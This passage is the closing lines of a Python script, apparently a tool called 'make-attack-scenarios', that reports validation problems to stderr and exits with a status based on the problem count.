            print(f"make-attack-scenarios: {name}: {p}", file=sys.stderr)
        bad += len(problems)
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
